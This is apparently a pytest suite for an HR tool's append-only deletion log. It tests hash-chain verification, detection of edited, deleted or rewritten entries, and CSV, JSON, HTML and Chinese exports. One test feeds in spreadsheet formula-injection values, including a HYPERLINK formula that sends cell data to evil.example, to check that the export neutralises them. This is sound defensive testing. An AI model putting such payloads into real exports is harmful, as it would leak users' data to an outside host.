"""The deletion log on SQLite and Postgres: append-only, verified, tamper caught, exported."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
import sqlalchemy as sa
from sqlalchemy.engine import Engine

from connectors.sql import make_engine
from governance.audit import AuditKeys, DeletionLog, LogEntry, verify_chain
from governance.audit.export import export_log
from tests.factories.retention import tamper_log as _tamper

DONE = datetime(2026, 3, 10, 9, 30, tzinfo=UTC)


@pytest.fixture
def engine(db_url: str) -> Iterator[Engine]:
    engine = make_engine(db_url)
    yield engine
    engine.dispose()


@pytest.fixture
def keys(tmp_path: Path) -> AuditKeys:
    return AuditKeys.load_or_create(tmp_path / "keys", env={"HRBRIDGE_AUDIT_PEPPER": "test"})


def _write(engine: Engine, keys: AuditKeys, runs: int = 2, per_run: int = 3) -> DeletionLog:
    log = DeletionLog(engine, keys)
    for run in range(runs):
        entries = [LogEntry(
            requested_by="retention policy not-hired-180d", subject_hash=keys.pseudonymise(f"C{run}{i}"),
            categories=["candidate_profile"], stores=["hub.candidates"],
            legal_basis="PIPL Art. 47(1)(2) retention period expired", method="delete",
            counts_before={"hub.candidates": 1}, counts_after={"hub.candidates": 0}, done_at=DONE,
        ) for i in range(per_run)]
        with engine.begin() as conn:
            log.append(conn, f"run-{run}", entries)
    return log


def test_intact_log_verifies_with_chain_and_heads(engine: Engine, keys: AuditKeys) -> None:
    _write(engine, keys)
    report = verify_chain(engine, keys.public_key)
    assert report.ok, report.problem
    assert (report.entries, report.heads, report.last_seq) == (6, 2, 6)


def test_writer_continues_the_chain_across_runs(engine: Engine, keys: AuditKeys) -> None:
    _write(engine, keys, runs=1)
    _write(engine, keys, runs=1)
    with engine.connect() as conn:
        rows = conn.exec_driver_sql("SELECT seq, prev_hash, hash FROM deletion_log ORDER BY seq").all()
    assert [r[0] for r in rows] == [1, 2, 3, 4, 5, 6]
    assert all(rows[i + 1][1] == rows[i][2] for i in range(5))


def test_text_with_tabs_newlines_and_backslashes_round_trips(engine: Engine, keys: AuditKeys) -> None:
    log = DeletionLog(engine, keys)
    basis = "GDPR Art. 17(1)(b)\tconsent withdrawn\nby letter C:\\docs\\42"
    entries = [LogEntry(requested_by="dpo\\desk", subject_hash=keys.pseudonymise(f"S{i}"), categories="candidate_profile",
                        stores="hub.candidates", legal_basis=basis, method="delete", counts_before='{"hub.candidates":1}',
                        counts_after='{"hub.candidates":0}') for i in range(3)]
    with engine.begin() as conn:
        log.append(conn, "run-x", entries)
    with engine.connect() as conn:
        stored = conn.execute(sa.select(sa.text("legal_basis, requested_by FROM deletion_log"))).all()
    assert {tuple(r) for r in stored} == {(basis, "dpo\\desk")}
    assert verify_chain(engine, keys.public_key).ok


def test_update_and_delete_are_rejected(engine: Engine, keys: AuditKeys) -> None:
    _write(engine, keys, runs=1)
    for statement in ("UPDATE deletion_log SET method = 'x' WHERE seq = 1", "DELETE FROM deletion_log WHERE seq = 1"):
        with pytest.raises(sa.exc.DatabaseError, match="append-only"), engine.begin() as conn:
            conn.exec_driver_sql(statement)
    assert verify_chain(engine, keys.public_key).ok


def test_edited_entry_is_named(engine: Engine, keys: AuditKeys) -> None:
    _write(engine, keys)
    _tamper(engine, "UPDATE deletion_log SET legal_basis = 'consent' WHERE seq = 2")
    report = verify_chain(engine, keys.public_key)
    assert not report.ok
    assert report.first_bad_seq == 2
    assert "entry seq 2 was altered" in report.problem


def test_deleted_entry_is_named(engine: Engine, keys: AuditKeys) -> None:
    _write(engine, keys)
    _tamper(engine, "DELETE FROM deletion_log WHERE seq = 4")
    report = verify_chain(engine, keys.public_key)
    assert (report.ok, report.first_bad_seq) == (False, 4)
    assert "entry seq 4 is missing" in report.problem


def test_swapped_entries_are_named(engine: Engine, keys: AuditKeys) -> None:
    _write(engine, keys)
    _tamper(engine, "UPDATE deletion_log SET seq = -1 WHERE seq = 2",
            "UPDATE deletion_log SET seq = 2 WHERE seq = 3",
            "UPDATE deletion_log SET seq = 3 WHERE seq = -1")
    report = verify_chain(engine, keys.public_key)
    assert (report.ok, report.first_bad_seq) == (False, 2)
    assert "does not follow entry seq 1" in report.problem


def _rewrite_from(engine: Engine, seq: int) -> None:
    """Edit entry ``seq`` and recompute its hash and every later link and hash, as a careful forger would."""
    from governance.audit.chain import HASHED_FIELDS, entry_hash

    with engine.connect() as conn:
        rows = [list(r) for r in conn.execute(sa.text(
            f"SELECT {', '.join(HASHED_FIELDS)}, prev_hash FROM deletion_log ORDER BY seq"))]  # noqa: S608
    rows[seq - 1][HASHED_FIELDS.index("method")] = "anonymise"
    prev, statements = rows[seq - 1][-1], []
    rewrite = "UPDATE deletion_log SET method = :method, prev_hash = :prev, hash = :hash WHERE seq = :seq"
    for row in rows[seq - 1:]:
        digest = entry_hash(prev, row[:-1])
        statements.append((rewrite, {"method": row[HASHED_FIELDS.index("method")], "prev": prev, "hash": digest,
                                     "seq": row[0]}))
        prev = digest
    _tamper(engine, *statements)


def test_rewritten_chain_is_caught_by_the_signed_head(engine: Engine, keys: AuditKeys) -> None:
    """Editing an entry and recomputing every later hash still breaks the signed head."""
    _write(engine, keys, runs=1)
    _rewrite_from(engine, 2)
    report = verify_chain(engine, keys.public_key)
    assert not report.ok
    assert "signed head" in report.problem


def test_a_rewritten_chain_is_named_at_the_first_altered_entry(engine: Engine, keys: AuditKeys) -> None:
    """Entry 5 edited and entries 5..12 rehashed: the head is at 12, the report names 5."""
    _write(engine, keys, runs=1, per_run=12)
    _rewrite_from(engine, 5)
    report = verify_chain(engine, keys.public_key)
    assert (report.ok, report.first_bad_seq) == (False, 5), report.problem
    assert "entry seq 5 was altered" in report.problem and "first seen at seq 12" in report.problem


def test_heads_are_append_only(engine: Engine, keys: AuditKeys) -> None:
    _write(engine, keys)
    for statement in ("UPDATE deletion_log_heads SET entries = 1", "DELETE FROM deletion_log_heads WHERE id = 1"):
        with pytest.raises(sa.exc.DatabaseError, match="deletion_log_heads is append-only"), engine.begin() as conn:
            conn.exec_driver_sql(statement)
    if engine.dialect.name == "postgresql":
        with pytest.raises(sa.exc.DatabaseError, match="append-only"), engine.begin() as conn:
            conn.exec_driver_sql("TRUNCATE deletion_log_heads")
    assert verify_chain(engine, keys.public_key).ok


def test_a_head_removed_from_the_middle_is_named(engine: Engine, keys: AuditKeys) -> None:
    _write(engine, keys, runs=3)
    _tamper(engine, "DELETE FROM deletion_log_heads WHERE run_id = 'run-1'")
    report = verify_chain(engine, keys.public_key)
    assert (report.ok, report.first_bad_seq) == (False, 4), report.problem
    assert "do not tile the log at seq 4..6" in report.problem


def test_csv_export_neutralises_formula_prefixes(engine: Engine, keys: AuditKeys, tmp_path: Path) -> None:
    log = DeletionLog(engine, keys)
    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd"]
    entries = [LogEntry(requested_by=basis, subject_hash=keys.pseudonymise(f"F{i}"), categories=["candidate_profile"],
                        stores=["hub.candidates"], legal_basis=basis, method="delete", done_at=DONE)
               for i, basis in enumerate(hostile)]
    with engine.begin() as conn:
        log.append(conn, "run-csv", entries)
    out = tmp_path / "log.csv"
    export_log(engine, verify_chain(engine, keys.public_key), date(2026, 3, 10), date(2026, 3, 10), "csv", out)
    with out.open(encoding="utf-8", newline="") as handle:
        handle.readline()  # the chain-status comment
        rows = list(csv.DictReader(handle))
    assert len(rows) == 6
    assert not [cell for row in rows for cell in row.values() if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert [row["Legal basis"] for row in rows] == ["'" + basis for basis in hostile]  # kept, shown as text
    assert [row["Requested by"] for row in rows] == ["'" + basis for basis in hostile]


def test_forged_head_signature_and_unsigned_tail(engine: Engine, keys: AuditKeys, tmp_path: Path) -> None:
    _write(engine, keys, runs=1)
    other = AuditKeys.load_or_create(tmp_path / "other", env={})
    report = verify_chain(engine, other.public_key)
    assert not report.ok and "not the trusted key" in report.problem
    _tamper(engine, "UPDATE deletion_log_heads SET head_seq = head_seq - 1")
    report = verify_chain(engine, keys.public_key)
    assert not report.ok and "does not verify" in report.problem


@pytest.mark.parametrize("fmt", ["csv", "json", "html"])
def test_export_formats(engine: Engine, keys: AuditKeys, tmp_path: Path, fmt: str) -> None:
    _write(engine, keys)
    report = verify_chain(engine, keys.public_key)
    out = tmp_path / f"log.{fmt}"
    assert export_log(engine, report, date(2026, 3, 10), date(2026, 3, 10), fmt, out) == 6
    assert export_log(engine, report, date(2026, 3, 11), date(2026, 3, 12), fmt, tmp_path / f"none.{fmt}") == 0
    text = out.read_text(encoding="utf-8")
    if fmt == "csv":
        lines = text.splitlines()
        assert lines[0].startswith("# Deletion log 2026-03-10 to 2026-03-10. Chain verified: all 6 entries")
        rows = list(csv.DictReader(lines[1:]))
        assert len(rows) == 6 and rows[0]["What was done"] == "delete"
        assert "retention period" in rows[0]["Legal basis in plain words"]
    elif fmt == "json":
        document = json.loads(text)
        assert document["chain"]["ok"] is True and len(document["entries"]) == 6
        assert document["entries"][0]["counts_before"] == {"hub.candidates": 1}
    else:
        assert "<script" not in text.lower()
        assert "Chain verified: all 6 entries intact" in text
        assert text.count("<tr>") == 7 and "Legal basis in plain words" in text


@pytest.mark.parametrize(("statements", "bad_seq", "words"), [
    ((), None, None),
    (("DELETE FROM deletion_log WHERE seq = 5",), 5, "entry seq 5 is missing"),
    (("UPDATE deletion_log SET seq = -1 WHERE seq = 4", "UPDATE deletion_log SET seq = 4 WHERE seq = 5",
      "UPDATE deletion_log SET seq = 5 WHERE seq = -1"), 4, "does not follow entry seq 3"),
    (("UPDATE deletion_log SET method = 'anonymise' WHERE seq = 9",), 9, "entry seq 9 was altered"),
])
def test_parallel_slices_find_the_same_first_problem(engine: Engine, keys: AuditKeys, monkeypatch: pytest.MonkeyPatch,
                                                      statements: tuple[str, ...], bad_seq: int | None,
                                                      words: str | None) -> None:
    """Slices (1-4, 5-8, 9) are checked by three processes; links across slices are checked too."""
    from governance.audit import verify as verify_module

    monkeypatch.setattr(verify_module, "PARALLEL_MIN", 1)
    _write(engine, keys, runs=3, per_run=3)
    if statements:
        _tamper(engine, *statements)
    report = verify_chain(engine, keys.public_key, workers=3)
    single = verify_chain(engine, keys.public_key, workers=1)
    assert (report.ok, report.first_bad_seq, report.problem) == (single.ok, single.first_bad_seq, single.problem)
    if bad_seq is None:
        assert report.ok and report.entries == 9
    else:
        assert report.first_bad_seq == bad_seq and words in report.problem


def test_a_bad_entry_writes_nothing_of_its_batch(engine: Engine, keys: AuditKeys) -> None:
    from governance.audit.chain import EntryTextError

    log = _write(engine, keys, runs=1)
    good = LogEntry(requested_by="p", subject_hash=keys.pseudonymise("A"), categories=["c"], stores=["hub.t"],
                    legal_basis="PIPL Art. 47", method="delete")
    bad = LogEntry(requested_by="p", subject_hash=keys.pseudonymise("B"), categories=["c"], stores=["hub.t"],
                   legal_basis="PIPL\x1fArt. 47", method="delete")
    with pytest.raises(EntryTextError, match="reserved control character"), engine.begin() as conn:
        log.append(conn, "run-bad", [good] * 1500 + [bad])
    report = verify_chain(engine, keys.public_key)
    assert report.ok and report.entries == 3


@pytest.mark.parametrize("fmt", ["csv", "html"])
def test_export_in_chinese_with_times_in_the_stated_zone(engine: Engine, keys: AuditKeys, tmp_path: Path,
                                                         fmt: str) -> None:
    from zoneinfo import ZoneInfo

    from hrbridge.i18n import Translator

    _write(engine, keys)
    out = tmp_path / f"log.{fmt}"
    t = Translator("zh", ZoneInfo("Asia/Shanghai"))
    assert export_log(engine, verify_chain(engine, keys.public_key), date(2026, 3, 10), date(2026, 3, 10), fmt,
                      out, t) == 6
    text = out.read_text(encoding="utf-8")
    assert "日志链校验通过：全部 6 条记录完整" in text and "时间均按 Asia/Shanghai 时区显示。" in text
    assert "2026-03-10T17:30:00+08:00" in text  # 09:30 UTC, shown in the zone the export states
    assert "09:30:00" not in text and "Legal basis in plain words" not in text
    if fmt == "csv":
        rows = list(csv.DictReader(text.splitlines()[1:]))
        assert rows[0]["执行的操作"] == "删除记录" and rows[0]["法律依据说明"].startswith("《个人信息保护法》第四十七条")
    else:
        assert "<html lang='zh-CN'>" in text and "删除日志：2026年3月10日 至 2026年3月10日" in text
